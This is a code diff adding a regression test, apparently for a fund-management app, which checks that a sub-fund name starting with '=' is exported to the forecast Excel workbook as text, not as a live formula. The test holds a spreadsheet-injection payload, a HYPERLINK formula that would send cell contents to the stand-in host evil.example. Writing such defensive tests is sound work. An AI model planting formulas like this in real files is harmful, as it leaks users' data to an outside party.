@@ -400,3 +400,22 @@ def _follow_with(client, status_url: str, headers: dict, timeout: float = 120) -
         assert time.monotonic() < deadline, status
         time.sleep(0.2)
     return status
+
+
+def test_a_name_that_begins_like_a_formula_is_text_in_the_workbook(db, demo, as_role):
+    """A sub-fund named '=HYPERLINK(…)' (the forms take such names) is a string cell in the
+    forecast's workbook: openpyxl had written it as a live formula."""
+    from models import SubFund
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    sub_fund = db.session.execute(select(SubFund).order_by(SubFund.code)).scalars().first()
+    sub_fund.name = hostile
+    db.session.commit()
+    cache.clear()
+    client = as_role("viewer")
+    _set_as_of(client)
+    response = client.get("/funds/QY/forecast.xlsx")
+    assert response.status_code == 200
+    cells = [c for ws in load_workbook(io.BytesIO(response.data)).worksheets for row in ws.iter_rows() for c in row]
+    assert [c.data_type for c in cells if c.value == hostile] == ["s"] * sum(c.value == hostile for c in cells)
+    assert any(c.value == hostile for c in cells) and not [c for c in cells if c.data_type == "f"]
